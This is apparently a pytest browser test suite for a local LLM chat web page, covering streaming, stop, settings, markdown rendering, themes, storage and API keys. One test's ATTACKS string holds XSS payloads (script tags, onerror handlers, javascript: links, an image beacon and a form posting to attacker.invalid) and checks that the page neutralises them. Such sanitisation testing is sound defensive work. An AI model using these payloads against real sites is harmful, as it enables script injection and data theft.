"""The page in a real browser, against a real server with a small random model."""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, ExitStack
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from everlong.engine.config import EngineConfig
from everlong.engine.llm import LLM
from everlong.model.assemble import assemble
from everlong.model.config import ModelConfig
from everlong.tokenizer import Tokenizer
from tests.model.random_models import random_weights
from tests.serving.browser import Page, find_browser, open_browser
from tests.serving.conftest import RunningServer, running

pytestmark = pytest.mark.browser

WINDOW = 32_768
TAB, UP, ESCAPE = "\ue004", "\ue013", "\ue00c"
"""Keys, as WebDriver numbers them."""

Serve = Callable[..., AbstractContextManager[RunningServer]]


def endless_llm(tokenizer: Tokenizer, **engine: Any) -> LLM:
    """A model that writes noise and never ends by itself, with a window for minutes of it."""
    config = ModelConfig(
        vocab_size=tokenizer.vocab_size,
        hidden_size=64,
        intermediate_size=128,
        num_layers=1,
        num_heads=2,
        num_kv_heads=1,
        head_dim=32,
        max_position=WINDOW,
    )
    weights = random_weights(config)
    # The logits of all tokens spread widely, but those that end a turn stay at 0.
    weights["lm_head.weight"] *= 20
    weights["lm_head.weight"][sorted(tokenizer.eos_token_ids)] = 0
    return LLM(
        assemble(config, weights.__getitem__, "float32"),
        tokenizer,
        name="noise",
        fingerprint=b"endless",
        engine=EngineConfig(**{"kv_cache_memory": 64 << 20, **engine}),
    )


@pytest.fixture(scope="module")
def driver(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    with open_browser(tmp_path_factory.mktemp("profile")) as chromium:
        yield chromium


@pytest.fixture(scope="module")
def endless(tokenizer: Tokenizer) -> Iterator[RunningServer]:
    find_browser()
    with running(endless_llm(tokenizer)) as server:
        yield server


@pytest.fixture
def serve(tokenizer: Tokenizer) -> Serve:
    """Serves another such model: ``serve(api_keys=..., max_model_len=...)``."""

    def start(
        api_keys: tuple[str, ...] = (), **engine: Any
    ) -> AbstractContextManager[RunningServer]:
        return running(endless_llm(tokenizer, **engine), api_keys=api_keys)

    return start


@pytest.fixture
def page(driver: Any, endless: RunningServer) -> Iterator[Page]:
    page = Page(driver, endless.url)
    yield page
    driver.get("about:blank")
    assert page.complaints() == []


def conversation(
    *messages: tuple[str, str], name: str = "saved", **settings: Any
) -> dict[str, Any]:
    """A conversation as the page keeps it; user and answer take turns."""
    common = {"ending": "stop", "model": "noise"}
    return {
        "id": name,
        "title": name,
        "updated": 1,
        "settings": settings,
        "messages": [
            {
                "id": str(number),
                "role": role,
                "text": text,
                **(common if role == "assistant" else {}),
            }
            for number, (role, text) in enumerate(messages)
        ],
    }


RICH = (
    """# Heading

Some **bold** text with `code` and a [link](https://example.org/there).

```python
def answer() -> int:
    return 42  # a rather long comment, so that the line must be scrolled in a narrow window
```

| column | another column | and one more column that makes it wide |
|---|---:|---|
| a | 1 | """
    + "wide " * 20
    + """|

- one
- two

"""
    + "long" * 100
)


def test_an_answer_is_streamed_and_measured(page):
    page.open(conversation(("user", "hi"), ("assistant", "hello"), maxTokens=600))
    page.say("Tell me something")
    grown = page.wait(lambda: page.text(".growing"), "the first text")
    page.wait(lambda: len(page.text(".growing")) > len(grown), "more text")
    page.wait_for_answer()
    figures = page.text(".answer:last-child .figures")
    assert re.search(r"[\d.]+ tok/s", figures)
    assert re.search(r"first token [\d.]+ m?s", figures)
    assert "600 tokens" in figures
    assert re.search(r"prompt \d+ \(\d+ % cached\)", figures)
    assert "cut at the limit" in figures
    assert page.all(".send:not(.stop)")


def test_what_was_read_before_is_shown_as_cached(page):
    page.open(conversation(("user", "word " * 200), ("assistant", "yes"), maxTokens=4))
    for text in ("first", "second"):
        page.say(text)
        page.wait_for_answer()
    cached = re.search(r"\((\d+) % cached\)", page.text(".answer:last-child .figures"))
    assert cached is not None
    assert int(cached[1]) > 50


@pytest.mark.parametrize("how", ["button", "escape"])
def test_stop_ends_the_request_and_keeps_the_text(page, endless, how):
    endless.wait_until_idle()
    before = endless.metric("generation_tokens_total")
    page.open()
    page.say("Go on for ever")
    page.wait(lambda: len(page.text(".growing")) > 100, "some text")
    assert endless.metric("num_requests_running") == 1
    if how == "button":
        page.wait_for(".send.stop").click()
    else:
        page.press(ESCAPE)
    page.wait_for_answer()
    endless.wait_until_idle()
    assert endless.metric("generation_tokens_total") - before < WINDOW / 2, "it ran to its end"
    assert "stopped" in page.text(".figures")
    assert len(page.text(".answer .markdown")) > 100


def test_settings_are_sent(page):
    page.open()
    page.wait_for("[aria-label=Settings]").click()
    page.wait_for("dialog textarea").send_keys("word " * 60)
    for label, value in (("Max tokens", "7"), ("Temperature", "0"), ("Seed", "3")):
        field = page.driver.find_element("xpath", f"//label[contains(., '{label}')]/input")
        field.clear()
        field.send_keys(value)
    page.wait_for("dialog .primary").click()
    page.wait_gone("dialog")
    texts = []
    for _ in range(2):
        page.say("go")
        page.wait_for_answer()
        assert "7 tokens" in page.text(".figures")
        prompt = re.search(r"prompt ([\d,]+)", page.text(".figures"))
        assert prompt is not None
        assert int(prompt[1].replace(",", "")) > 60
        texts.append(page.text(".answer .markdown"))
        page.wait_for(".new-chat").click()
        page.wait_gone("article")
    assert texts[0] == texts[1]


def test_answer_again_and_edit_replace_the_last_answer(page):
    page.open(conversation(("user", "hi"), ("assistant", "the old answer"), maxTokens=5))
    page.wait_for("[aria-label='Answer again']:not(:disabled)").click()
    page.wait(lambda: "5 tokens" in page.text(".figures"), "another answer")
    assert "the old answer" not in page.text(".column")
    page.wait_for("#message").click()
    page.press(UP)
    page.wait_for("[aria-label='Edit message'][dir]:focus")  # typed before, it would be lost
    page.press(" there", "\n")
    page.wait(lambda: page.text(".bubble") == "hi there", "the changed message")
    page.wait_for_answer()
    assert len(page.all("article")) == 2


def test_markdown_and_code_are_rendered(page):
    page.open(conversation(("user", "hi"), ("assistant", RICH)))
    page.wait_for(".answer .block")
    for css in ("h3", "strong", "p > code", "table td", "li", "pre .hljs-keyword"):
        assert page.all(f".answer {css}"), css
    link = page.wait_for(".answer a")
    assert link.get_attribute("href") == "https://example.org/there"
    assert "noopener" in link.get_attribute("rel")
    assert page.text(".code-bar span") == "python"
    plain = page.run("return getComputedStyle(document.querySelector('pre code')).color")
    keyword = page.run("return getComputedStyle(document.querySelector('.hljs-keyword')).color")
    assert plain != keyword
    permission = {
        "permission": {"name": "clipboard-write"},
        "setting": "granted",
        "origin": page.url,
    }
    page.driver.execute_cdp_cmd("Browser.setPermission", permission)
    page.wait_for(".code-bar button").click()
    page.wait(lambda: page.text(".code-bar button") == "Copied", "the code to be copied")


ATTACKS = """<script>window.harmed = 1</script>
<img src=x onerror="window.harmed = 1"> <svg onload="window.harmed = 1"></svg>
<iframe srcdoc="<script>parent.harmed = 1</script>"></iframe>
<style>body { display: none }</style> <b onclick="window.harmed = 1">b</b>

[a](javascript:window.harmed=1) [b](JaVaScRiPt&colon;window.harmed=1) <javascript:window.harmed=1>
[c](data:text/html,<script>window.harmed=1</script>) [d](vbscript:x) [e]("onclick="window.harmed=1)

![x](https://attacker.invalid/beacon.png) ![y](x" onerror="window.harmed=1)

```"><img src=x onerror="window.harmed=1">
</code></pre><script>window.harmed = 1</script>
```

<dialog open><form action=//attacker.invalid><input name=key></form></dialog>
<think><img src=x onerror="window.harmed = 1"></think>
"""


def test_scripts_in_messages_are_harmless(page):
    messages = [("user", ATTACKS), ("assistant", ATTACKS), ("assistant", f"<think>{ATTACKS}")]
    saved = conversation(*messages, name="attack")
    page.open({**saved, "title": ATTACKS})
    page.wait_for(".answer .block")
    for link in page.all(".answer a"):
        link_target = link.get_attribute("href") or ""
        assert urlsplit(link_target).scheme in ("", "https", "http", "mailto")
        if not link_target:
            page.run("arguments[0].click()", link)
    time.sleep(0.2)  # long enough for an image to fail and run its handler
    assert page.run("return window.harmed") is None
    forbidden = (
        "script, img, iframe, style, dialog, form, input, svg:not(.icon), [onclick], [onerror]"
    )
    assert (
        page.run(
            "return document.querySelectorAll(arguments[0]).length",
            ", ".join(f".column {css}" for css in forbidden.split(", ")),
        )
        == 0
    )
    assert "<script>window.harmed = 1</script>" in page.text(".bubble")
    assert {urlsplit(url).netloc for url in page.requests() if url.startswith("http")} == {
        page.host()
    }


def test_light_and_dark(page):
    def brightness() -> float:
        colour = page.run("return getComputedStyle(document.body).backgroundColor")
        return sum(map(int, re.findall(r"\d+", colour))) / 3 / 255

    page.open()
    assert brightness() > 0.8
    page.look(dark=True)
    assert brightness() < 0.2
    for theme, bright in (("light", True), ("dark", False)):
        page.wait_for("[aria-label^=Colours]").click()
        page.wait_for(f"[aria-label='Colours: {theme}']")
        assert (brightness() > 0.5) == bright
    page.look(dark=False)
    page.open()
    assert brightness() < 0.2, "the choice is kept"


@pytest.mark.parametrize("width", [400, 1280])
def test_nothing_is_wider_than_the_window(page, width):
    def fits() -> bool:
        return page.run(
            "return [...document.querySelectorAll('html, .messages, dialog, .chats ul')]"
            ".every((box) => box.scrollWidth <= box.clientWidth)"
        )

    page.look(width=width)
    page.open()
    assert fits()
    page.open(conversation(("user", "x" * 300), ("assistant", RICH), name="y" * 100))
    page.wait_for(".answer .block")
    assert fits()
    page.wait_for("[aria-label=Settings]").click()
    page.wait_for("dialog")
    assert fits()
    page.press(ESCAPE)
    page.wait_gone("dialog")
    menu = page.wait_for("[aria-label=Conversations].icon-button")
    assert menu.is_displayed() == (width == 400)
    if width == 400:
        menu.click()
        assert page.wait_for("dialog .chats a").is_displayed()
        assert fits()


def test_no_other_host_is_asked(page):
    page.open(conversation(("user", "hi"), ("assistant", RICH), maxTokens=5))
    page.say("and more")
    page.wait_for_answer()
    asked = [url for url in page.requests() if not url.startswith(("about:", "chrome:"))]
    assert any(url.endswith("/v1/chat/completions") for url in asked)
    assert {urlsplit(url).netloc for url in asked} == {page.host()}


def test_conversations_are_kept_and_deleted(page):
    page.open(conversation(("user", "hi"), ("assistant", "yes"), maxTokens=3))
    page.wait_for(".new-chat").click()
    page.wait_gone("article")
    page.say("The second one")
    page.wait(lambda: page.text(".growing"), "text")
    page.press(ESCAPE)
    page.wait_for_answer()
    answer = page.text(".answer .markdown")
    page.driver.refresh()
    page.wait_for(".answer footer")
    assert page.text(".answer .markdown") == answer
    assert page.text(".chats ul").split("\n") == ["The second one", "saved"]
    page.wait_for("[aria-label='Delete: The second one']").click()
    assert "The second one" in page.wait_for("dialog").text
    page.press(ESCAPE)
    page.wait_gone("dialog")
    assert len(page.all(".chats li")) == 2
    page.wait_for("[aria-label='Delete: The second one']").click()
    page.wait_for("dialog .danger").click()
    page.wait(lambda: page.text(".chats ul") == "saved", "one conversation less")
    page.driver.refresh()
    page.wait_for(".chats li")
    assert page.text(".chats ul") == "saved"


def test_one_dialog_may_lead_to_another(page):
    page.look(width=400)
    page.open(conversation(("user", "hi"), ("assistant", "yes"), maxTokens=3))
    page.wait_for("[aria-label=Conversations].icon-button").click()
    page.wait_for("dialog [aria-label='Delete: saved']").click()
    page.wait_for("dialog .danger").click()
    page.wait_gone("article")
    assert page.run("return Object.keys(localStorage).join()") == ""
    page.press("typed")
    assert page.wait_for("#message").get_attribute("value") == "typed"


def test_the_reader_may_scroll_up_while_text_comes(page):
    page.look(height=400)
    page.open()
    page.say("Go on for ever")
    box = "document.querySelector('.messages')"
    page.wait(lambda: page.run(f"return {box}.scrollTop") > 100, "text that is followed")
    # The wheel, because only a real one tells a reader from a script.
    wheel = {"type": "mouseWheel", "x": 700, "y": 200, "deltaX": 0, "deltaY": -80}
    page.driver.execute_cdp_cmd("Input.dispatchMouseEvent", wheel)
    to_end = page.wait_for(".to-end")
    position, height = page.run(f"return [{box}.scrollTop, {box}.scrollHeight]")
    page.wait(lambda: page.run(f"return {box}.scrollHeight") > height + 50, "more text")
    assert page.run(f"return {box}.scrollTop") == position
    to_end.click()
    rest = f"return {box}.scrollHeight - {box}.scrollTop - {box}.clientHeight"
    page.wait(lambda: page.run(rest) < 5, "the end")
    page.press(ESCAPE)
    page.wait_for_answer()


@pytest.fixture
def visit(page: Page, serve: Serve) -> Iterator[Callable[..., Page]]:
    """Opens the page of a server of its own: ``visit(api_keys=..., max_model_len=...)``."""
    with ExitStack() as stack:

        def open_page(*conversations: dict[str, Any], **options: Any) -> Page:
            server = stack.enter_context(serve(**options))
            return Page(page.driver, server.url).open(*conversations)

        yield open_page


def test_a_refusal_is_shown_with_its_numbers(visit):
    page = visit(max_model_len=128)
    page.say("zq" * 150)
    failure = page.wait_for(".failure")
    assert "128" in failure.text
    assert failure.find_element("tag name", "button").text == "Try again"
    page.wait_for("[aria-label='Edit message']").click()
    editor = page.wait_for(".editor textarea")
    editor.clear()
    editor.send_keys("short\n")
    page.wait_for(".figures li")
    page.wait_for_answer()
    assert page.text(".answer .markdown")
    assert not page.all(".failure")


def test_a_busy_server_is_asked_again(visit):
    saved = conversation(("user", "a"), ("assistant", "b"), maxTokens=5)
    page = visit(saved, max_num_seqs=1, max_waiting=0)
    endless = {"model": "noise", "prompt": "x", "stream": True, "max_tokens": WINDOW - 100}
    with httpx.stream("POST", f"{page.url}/v1/completions", json=endless) as other:
        lines = other.iter_lines()
        next(lines)
        page.say("hello")
        page.wait(lambda: "The server is busy" in page.text(".waiting"), "the refusal")
    page.wait(lambda: "5 tokens" in page.text(".figures"), "the answer after a while")


def test_a_key_is_asked_for_and_used(visit):
    page = visit(api_keys=("the-key",))
    for key in ("wrong", "the-key"):
        field = page.wait_for("dialog input[type=password]")
        field.clear()
        field.send_keys(key, "\n")
        if key == "wrong":
            page.wait(lambda: "did not accept" in page.text("#key-hint"), "the refusal")
    page.wait_gone("dialog")
    page.say("hello")
    page.wait(lambda: page.text(".growing"), "text")
    page.press(ESCAPE)
    page.wait_for_answer()
    page.driver.refresh()
    page.wait_for("select.model")
    assert not page.all("dialog")
    assert "the-key" not in page.run("return JSON.stringify(localStorage)")


def test_a_lost_server_is_noticed(page, serve):
    with serve() as server:
        page = Page(page.driver, server.url).open()
        page.say("Go on for ever")
        page.wait(lambda: page.text(".growing"), "text")
    page.wait_for(".failure")
    page.wait(lambda: "cannot be reached" in page.text(".notice"), "the notice")
    assert not page.wait_for(".send").is_enabled()
    assert page.text(".answer .markdown")


def test_the_whole_way_with_the_keyboard(page):
    page.open(conversation(("user", "hi"), ("assistant", "yes"), maxTokens=3))
    seen: list[str] = []
    page.run("document.activeElement.blur()")
    while len(seen) < 30 and "Message" not in seen:
        page.press(TAB)
        focused = page.driver.switch_to.active_element
        seen.append(focused.get_attribute("aria-label") or focused.text)
    for name in ("Skip to the message box", "New chat", "saved", "Model", "Settings", "Messages"):
        assert name in seen, seen
    page.press("hello\n")
    page.wait(lambda: len(page.all("article")) == 4, "the new messages")
    page.wait_for_answer()
    status = page.run("return document.querySelector('[role=status]').textContent")
    assert status == page.run(
        "return JSON.parse(localStorage['everlong.conversation.saved']).messages.at(-1).text"
    )
